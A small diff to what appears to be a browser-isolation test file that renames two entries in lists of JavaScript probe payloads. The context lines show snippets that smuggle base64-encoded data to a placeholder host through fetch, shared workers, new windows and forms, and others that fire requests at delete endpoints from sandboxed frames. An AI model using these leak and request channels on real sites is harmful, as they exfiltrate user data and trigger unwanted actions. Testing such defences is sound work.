@@ -21,7 +21,7 @@ _POST = "{method: 'POST', mode: 'no-cors', body: 'x'}"
 _SENDING = {
     "link prefetch": _LINK.format("prefetch", "/c/zeta-c3/delete", ""),
     "sandboxed new frame": _srcdoc(f"fetch('${{location.origin}}/c/zeta-c4', {_POST})"),
-    "sandboxed new frame's beacon": _srcdoc("navigator.sendBeacon('${location.origin}/c/zeta-c5')"),
+    "beacon of a sandboxed new frame": _srcdoc("navigator.sendBeacon('${location.origin}/c/zeta-c5')"),
     "XSLT": _FRAME.format("f.src = '/c/xslt'"),
     "JSON module": "import('/c/zeta-c7/delete', {with: {type: 'json'}}).catch(() => 0)",
     "humps in a new window": "window.open('/c/zeta-c8/deleteItem')",
@@ -78,7 +78,7 @@ _LEAKING = {
     "`fetch('http://{}/?${{btoa({v})}}', {{mode: 'no-cors'}})`])))",
     "shared worker": "new SharedWorker('/tell.js?' + encodeURIComponent(`http://{}/?` + btoa({v})))",
     "new window": "window.open(`http://{}/?` + btoa({v}))",
-    "new window's form": "const g = document.createElement('form'); g.target = '_blank'; g.method = 'post'; "
+    "form into a new window": "const g = document.createElement('form'); g.target = '_blank'; g.method = 'post'; "
     "g.action = `http://{}/`; document.body.append(g); g.submit()",
     "leaving": "window.name = {v}; location.href = `http://{}/far`",
 }  # fmt: skip
